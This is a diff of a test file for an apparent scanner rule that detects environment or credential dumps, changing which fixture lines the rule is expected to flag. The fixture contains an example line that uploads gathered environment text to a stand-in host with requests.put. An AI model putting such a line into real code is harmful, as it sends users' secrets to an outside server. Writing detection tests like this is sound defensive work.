@@ -118,7 +118,7 @@ def test_credentials_environment_dump_filtered_joined_or_read_from_env():
     requests.put('https://cfg.example/raw', data=env_text)
     """
     lines = [line for rule, line in found(source) if rule == "credentials.environment-dump"]
-    assert lines == [4, 6, 8]
+    assert lines == [3, 4, 5, 6, 7, 8]  # each send, and the statement that gathered what it sends
 
 
 def test_exfiltration_host_data_keys_attached_to_mail_or_uploaded_by_ftp():
